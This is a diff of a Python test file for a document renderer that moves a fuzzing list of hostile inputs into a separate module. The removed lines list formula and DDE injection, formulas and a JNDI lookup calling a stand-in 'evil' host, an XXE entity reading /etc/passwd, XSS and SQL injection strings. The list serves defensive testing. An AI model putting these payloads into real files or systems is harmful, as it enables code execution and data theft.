@@ -9,6 +9,7 @@ from io import BytesIO, StringIO
 import docx
 import pypdfium2
 from openpyxl import load_workbook
+from payloads import PAYLOADS, SEEDS
 
 from filmdesk.paper.parts import (
     Blank,
@@ -31,60 +32,6 @@ from filmdesk.paper.parts import (
     TableColumn,
 )
 from filmdesk.paper.write import render
-
-SEEDS = (
-    "=1+1",
-    "=cmd|' /C calc'!A0",
-    "+1+1",
-    "-2+3",
-    "@SUM(A1)",
-    "\t=1+1",
-    "\r=1+1",
-    '=HYPERLINK("http://evil","x")',
-    '=IMPORTXML("http://evil")',
-    "＝1+1",
-    "+44 20 7946 0958",
-    "-5",
-    "@handle",
-    "=",
-    "#REF!",
-    "#N/A",
-    "{=SUM(A1)}",
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<b>x",
-    "</w:t></w:r>",
-    "]]>",
-    "<!--",
-    "&lt;&amp;",
-    '<?xml version="1.0"?>',
-    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
-    '" onclick="x',
-    "' or '1'='1",
-    'INCLUDEPICTURE "http://evil"',
-    "DDEAUTO c:\\\\x",
-    '<w:fldSimple w:instr="DDE"/>',
-    "_x0041_",
-    "\x00\x01\x02",
-    "a\x0bb\x0cc",
-    "\ud800",
-    "\ufffe\uffff",
-    "\u202eevil\u202c",
-    "\u200bhidden\ufeff",
-    "javascript:alert(1)",
-    "file:///etc/passwd",
-    "\\\\evil\\share",
-    ") Tj ET (",
-    "\\( \\)",
-    "%PDF-1.4",
-    "endstream",
-    "{{7*7}}",
-    "${jndi:ldap://evil}",
-    "%n%s",
-    "😀 family 👩‍👩‍👧",
-    "a" * 40_000,
-)
-PAYLOADS = [*SEEDS, *(f"ok {seed}" for seed in SEEDS)]
 
 
 def hostile(text: str) -> Paper:
